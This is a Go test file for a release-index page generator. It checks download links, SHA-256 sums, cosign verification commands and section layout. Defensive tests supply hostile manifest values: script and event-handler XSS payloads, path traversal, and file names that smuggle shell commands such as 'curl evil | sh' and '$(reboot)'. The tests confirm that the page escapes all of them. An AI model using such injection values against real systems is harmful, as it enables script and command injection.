package index

import (
	"html"
	"regexp"
	"strings"
	"testing"

	"github.com/garage-release/garage-release/ci/manifest"
	"github.com/garage-release/garage-release/ci/target"
)

// full is a stable release with every target of the table, docs and an image.
func full(version string) *manifest.Manifest {
	m := mk(version, "stable", 0, "a")
	m.Commit = "0123456789abcdef0123456789abcdef01234567"
	m.Docs = "docs/"
	m.Image = &manifest.Image{Ref: "registry.example/garage:" + version, Digest: "sha256:" + strings.Repeat("e", 64), Platforms: target.Platforms(target.All)}
	m.Targets = nil
	for i, tg := range target.All {
		m.Targets = append(m.Targets, manifest.Artifact{
			Target: tg.Name, Triple: tg.Triple, Platform: tg.Platform, Path: tg.BinaryPath("garage"),
			Size: 1258291 + int64(i), SHA256: strings.Repeat(string("0123"[i]), 64),
		})
	}
	return m
}

func render(t *testing.T, ms ...*manifest.Manifest) string {
	t.Helper()
	b, err := Build(ms).HTML()
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestHTMLRelease(t *testing.T) {
	out := render(t, full("v1.2.3"))
	want := []string{
		`<meta name="viewport" content="width=device-width, initial-scale=1">`,
		`<section id="stable">`,
		`class="build" id="release-v1.2.3" data-version="v1.2.3"`,
		`<span class="badge latest">latest</span>`,
		`title="0123456789abcdef0123456789abcdef01234567">0123456789ab</code>`,
		`<a class="sums" href="_releases/v1.2.3/SHA256SUMS">`,
		`<a class="manifest" href="_releases/v1.2.3/manifest.json">`,
		`<a class="docs" href="_docs/v1.2.3/index.html">`,
		`registry.example/garage:v1.2.3@sha256:` + strings.Repeat("e", 64),
		"1.2 MiB",
		"No extra releases yet.",
		"No development releases yet.",
	}
	for i, tg := range target.All {
		sha := strings.Repeat(string("0123"[i]), 64)
		key := "_releases/v1.2.3/" + tg.Triple + "/garage"
		want = append(want,
			`<a class="binary" href="`+key+`" data-sha256="`+sha+`"`,
			`<a class="checksum" href="`+key+`.sha256">`,
			`<code class="sha256" title="SHA-256">`+sha+`</code>`,
			`<span class="description">`+tg.Description+`</span>`,
		)
	}
	for _, w := range want {
		if !strings.Contains(out, w) {
			t.Errorf("page lacks %s", w)
		}
	}
	if !strings.Contains(out, "ARMv5TE soft-float: runs on ARMv6 (Raspberry Pi 1/Zero) and later") {
		t.Error("the arm build is not described as ARMv5TE soft-float running on ARMv6 and later")
	}
	for _, bad := range []string{"armv6hf", "<script", "javascript:"} {
		if strings.Contains(strings.ToLower(out), bad) {
			t.Errorf("page contains %q", bad)
		}
	}
}

func TestHTMLWithoutDocsOrImage(t *testing.T) {
	out := render(t, mk("v1.0.0", "stable", 0, "a"))
	for _, bad := range []string{`class="docs"`, `class="image"`, "Documentation"} {
		if strings.Contains(out, bad) {
			t.Errorf("a release without docs or image shows %s", bad)
		}
	}
}

func TestHTMLEmpty(t *testing.T) {
	out := render(t)
	for _, w := range []string{"No stable releases yet.", "No extra releases yet.", "No development releases yet.", "<title>Releases</title>"} {
		if !strings.Contains(out, w) {
			t.Errorf("empty page lacks %q", w)
		}
	}
	if strings.Contains(out, `class="build"`) {
		t.Error("empty page lists a build")
	}
}

// eventAttr finds an on...= attribute inside a real tag (escaped text has no
// raw "<").
var eventAttr = regexp.MustCompile(`<[a-z][^>]*\son[a-z]+\s*=`)

var quoted = regexp.MustCompile(`"[^"]*"`)

var buildRe = regexp.MustCompile(`<section id="(\w+)">|data-version="([^"]+)"`)

// sectionsOf returns, per section id, the versions in page order.
func sectionsOf(out string) map[string][]string {
	got, cur := map[string][]string{}, ""
	for _, m := range buildRe.FindAllStringSubmatch(out, -1) {
		if m[1] != "" {
			cur = m[1]
			got[cur] = []string{}
		} else {
			got[cur] = append(got[cur], m[2])
		}
	}
	return got
}

func TestHTMLOrderAndCollapse(t *testing.T) {
	dev := strings.Repeat("f", 40)
	out := render(t,
		mk("v1.9.0", "stable", 3, "a"), mk("v1.10.0", "stable", 1, "b"),
		mk("rc-old", "extra", 1, "c"), mk("rc-new", "extra", 2, "d"),
		mk(dev, "development", 0, "e"),
	)
	got := sectionsOf(out)
	want := map[string]string{"stable": "v1.10.0 v1.9.0", "extra": "rc-new rc-old", "development": dev}
	for id, w := range want {
		if g := strings.Join(got[id], " "); g != w {
			t.Errorf("section %s lists %q, want %q", id, g, w)
		}
	}
	// Stable is open; Extra and Development are closed <details>.
	// (A release's own "Verify a download" is a <details> too.)
	stable := out[strings.Index(out, `<section id="stable">`):strings.Index(out, `<section id="extra">`)]
	if strings.Contains(stable, "<details>\n<summary><h2>") {
		t.Error("the stable section is collapsed")
	}
	for _, id := range []string{"extra", "development"} {
		i := strings.Index(out, `<section id="`+id+`">`)
		if !strings.HasPrefix(out[i:], `<section id="`+id+`">`+"\n<details>\n<summary>") {
			t.Errorf("section %s does not start with a closed <details>: %.80q", id, out[i:])
		}
	}
	if strings.Count(out, "latest</span>") != 1 || !strings.Contains(out, `v1.10.0</span></a> <span class="badge latest">`) {
		t.Error("v1.10.0 is not the one release marked latest")
	}
}

func TestHTMLEscapesHostileManifest(t *testing.T) {
	evil := `v1"><script>alert(1)</script><img src=x onerror=alert(2)>`
	m := mk(evil, "extra", 0, "a")
	m.Binary = `<b>garage</b>`
	m.Commit = `"><script>alert(3)</script>`
	m.Docs = "docs/"
	m.Image = &manifest.Image{Ref: `<iframe src="javascript:alert(4)">`, Digest: "sha256:x"}
	m.Targets[0].Target = `<marquee>`
	m.Targets[0].Path = `x"onmouseover="alert(5)/garage`
	out := render(t, m)
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "<img", "<iframe", "<marquee", "<b>garage"} {
		if strings.Contains(lower, bad) {
			t.Errorf("hostile manifest injected %q into the page", bad)
		}
	}
	// html/template double-quotes every attribute value: drop the values,
	// then no tag may carry an on...= attribute.
	if h := eventAttr.FindString(quoted.ReplaceAllString(lower, `""`)); h != "" {
		t.Errorf("hostile manifest added an event handler: %s", h)
	}
	if !strings.Contains(out, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Error("the hostile version is not shown escaped")
	}
	// In links the version is one escaped path segment under _releases/.
	if !strings.Contains(out, `href="_releases/v1%22%3E%3Cscript%3Ealert%281%29%3C%2Fscript%3E%3Cimg%20src=x%20onerror=alert%282%29%3E/x%22onmouseover=%22alert%285%29/garage"`) {
		t.Errorf("hostile version not escaped in links:\n%s", out)
	}
}

func TestLocalPage(t *testing.T) {
	idx := Build([]*manifest.Manifest{full("v1.2.3")})
	b, err := idx.LocalHTML()
	if err != nil {
		t.Fatal(err)
	}
	out := string(b)
	for _, w := range []string{
		`<a class="binary" href="armv5te-unknown-linux-gnueabi/garage"`,
		`<a class="sums" href="SHA256SUMS">`,
		`<a class="manifest" href="manifest.json">`,
		`<a class="docs" href="docs/index.html">`,
		`<a class="json" href="releases.json">`,
	} {
		if !strings.Contains(out, w) {
			t.Errorf("dist/index.html lacks %s", w)
		}
	}
	// dist/ has no per-binary .sha256 files and no bucket folders.
	for _, bad := range []string{`class="checksum"`, "_releases", "_docs"} {
		if strings.Contains(out, bad) {
			t.Errorf("dist/index.html contains %s", bad)
		}
	}
	js, err := idx.LocalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(js), `"prefix": ""`) || !strings.Contains(string(js), `"docs_url": "docs/index.html"`) {
		t.Errorf("dist/releases.json does not point next to itself:\n%s", js)
	}
}

// sign gives a manifest the supply-chain files of a signed release, named
// as the pipeline names them.
func sign(m *manifest.Manifest) *manifest.Manifest {
	m.SBOM, m.Provenance = manifest.SBOMName, manifest.ProvenanceName
	m.Signatures = &manifest.Signatures{
		PublicKey:  manifest.PublicKeyName,
		Files:      map[string]string{manifest.SumsName: manifest.SumsName + manifest.SignatureSuffix},
		Provenance: manifest.EnvelopeName,
	}
	for _, a := range m.Targets {
		m.Signatures.Files[a.Path] = a.Path + manifest.SignatureSuffix
	}
	if m.Image != nil {
		m.Signatures.Image = manifest.ImageSignatureName
	}
	return m
}

// article returns the HTML of one release on the page.
func article(t *testing.T, out, version string) string {
	t.Helper()
	i := strings.Index(out, `data-version="`+version+`"`)
	if i < 0 {
		t.Fatalf("the page has no release %s", version)
	}
	end := strings.Index(out[i:], "</article>")
	return out[i : i+end]
}

var commandRe = regexp.MustCompile(`<code class="command">([^<]*)</code>`)

// commands are the shell commands of a release as a user copies them.
func commands(art string) []string {
	var out []string
	for _, m := range commandRe.FindAllStringSubmatch(art, -1) {
		out = append(out, html.UnescapeString(m[1]))
	}
	return out
}

func TestHTMLSupplyChain(t *testing.T) {
	signed := sign(full("v1.2.3"))
	unsigned := mk("v1.1.0", "stable", 0, "b")
	unsigned.SBOM = manifest.SBOMName
	out := render(t, signed, unsigned)

	s := article(t, out, "v1.2.3")
	attr := func(class, key string) string { return `<a class="` + class + `" href="` + key + `">` }
	want := []string{
		`<span class="badge signed">signed</span>`,
		attr("sbom", FileKey("v1.2.3", manifest.SBOMName)) + "SBOM</a>",
		attr("provenance", FileKey("v1.2.3", manifest.ProvenanceName)) + "provenance</a>",
		attr("public-key", FileKey("v1.2.3", manifest.PublicKeyName)) + "cosign.pub</a>",
		attr("sums-signature", FileKey("v1.2.3", manifest.SumsName+manifest.SignatureSuffix)) + "SHA256SUMS.sig</a>",
		attr("provenance-signature", FileKey("v1.2.3", manifest.EnvelopeName)) + "provenance.intoto.jsonl</a>",
		attr("image-signature", FileKey("v1.2.3", manifest.ImageSignatureName)) + "image.sig.json</a>",
		"from the project's repository, a place you trust",
		`<details class="verify" open>`, // the latest release shows its commands
	}
	for _, a := range signed.Targets {
		want = append(want, attr("signature", FileKey("v1.2.3", a.Path)+manifest.SignatureSuffix)+".sig</a>")
	}
	for _, w := range want {
		if !strings.Contains(s, w) {
			t.Errorf("signed release lacks %s", w)
		}
	}
	if strings.Contains(s, "unsigned") {
		t.Error("the signed release says unsigned")
	}
	img := "registry.example/garage@sha256:" + strings.Repeat("e", 64)
	wantCmds := []string{"cosign verify-blob --key cosign.pub --signature SHA256SUMS.sig --insecure-ignore-tlog SHA256SUMS"}
	for _, a := range signed.Targets {
		wantCmds = append(wantCmds,
			"grep ' "+strings.ReplaceAll(a.Path, ".", `\.`)+"$' SHA256SUMS | sed 's| "+a.Triple+"/| |' | sha256sum -c",
			"cosign verify-blob --key cosign.pub --signature garage.sig --insecure-ignore-tlog garage",
			"cosign verify-blob-attestation --key cosign.pub --signature provenance.intoto.jsonl --type slsaprovenance1 --insecure-ignore-tlog garage",
		)
	}
	wantCmds = append(wantCmds,
		"cosign verify --key cosign.pub --insecure-ignore-tlog "+img,
		"cosign verify-attestation --key cosign.pub --insecure-ignore-tlog --type slsaprovenance1 "+img,
	)
	if got := commands(s); strings.Join(got, "\n") != strings.Join(wantCmds, "\n") {
		t.Errorf("signed release commands:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(wantCmds, "\n"))
	}

	u := article(t, out, "v1.1.0")
	for _, w := range []string{
		`<span class="badge unsigned">unsigned</span>`,
		`<p class="unsigned-note">This release is unsigned`,
		attr("sbom", FileKey("v1.1.0", manifest.SBOMName)) + "SBOM</a>",
		`<details class="verify">`, // not the latest: closed
	} {
		if !strings.Contains(u, w) {
			t.Errorf("unsigned release lacks %s", w)
		}
	}
	for _, bad := range []string{"cosign", ".sig", `class="provenance`, `class="signed`, `class="badge signed"`} {
		if strings.Contains(u, bad) {
			t.Errorf("unsigned release shows %s", bad)
		}
	}
	if got := commands(u); len(got) != 1 || got[0] != "grep ' x86_64-unknown-linux-gnu/garage$' SHA256SUMS | sed 's| x86_64-unknown-linux-gnu/| |' | sha256sum -c" {
		t.Errorf("unsigned release commands = %q, want the sha256sum check alone", got)
	}

	// dist/index.html links the same files next to itself.
	b, err := Build([]*manifest.Manifest{sign(full("v1.2.3"))}).LocalHTML()
	if err != nil {
		t.Fatal(err)
	}
	local := string(b)
	for _, w := range []string{
		attr("sbom", manifest.SBOMName), attr("provenance", manifest.ProvenanceName),
		attr("public-key", manifest.PublicKeyName), attr("sums-signature", "SHA256SUMS.sig"),
		attr("provenance-signature", manifest.EnvelopeName), attr("signature", "x86_64-unknown-linux-gnu/garage.sig"),
	} {
		if !strings.Contains(local, w) {
			t.Errorf("dist/index.html lacks %s", w)
		}
	}
}

func TestHTMLSupplyChainHostile(t *testing.T) {
	m := sign(mk("v1.0.0", "stable", 0, "a"))
	m.SBOM = "../../_releases/other/sbom.cdx.json"
	m.Signatures.PublicKey = "/etc/cosign.pub"
	m.Signatures.Files[m.Targets[0].Path] = "x86_64-unknown-linux-gnu/garage.sig; curl evil | sh"
	m.Signatures.Provenance = "$(reboot).jsonl"
	out := article(t, render(t, m), "v1.0.0")
	for _, bad := range []string{`class="sbom"`, "/etc/", "../", "curl evil"} {
		if strings.Contains(out, bad) {
			t.Errorf("hostile supply-chain paths put %q on the page", bad)
		}
	}
	// Odd names stay links inside the release folder, escaped, and never
	// reach a command a user would paste into a shell.
	if !strings.Contains(out, `href="_releases/v1.0.0/x86_64-unknown-linux-gnu/garage.sig%3B%20curl%20evil%20%7C%20sh"`) {
		t.Error("the odd signature name is not one escaped link in the release folder")
	}
	for _, c := range commands(out) {
		if strings.Contains(c, "curl") || strings.Contains(c, "reboot") {
			t.Errorf("a hostile name reached a command: %s", c)
		}
	}
	if !strings.Contains(out, `class="verify-note"`) {
		t.Error("the page does not say that commands were left out")
	}
}
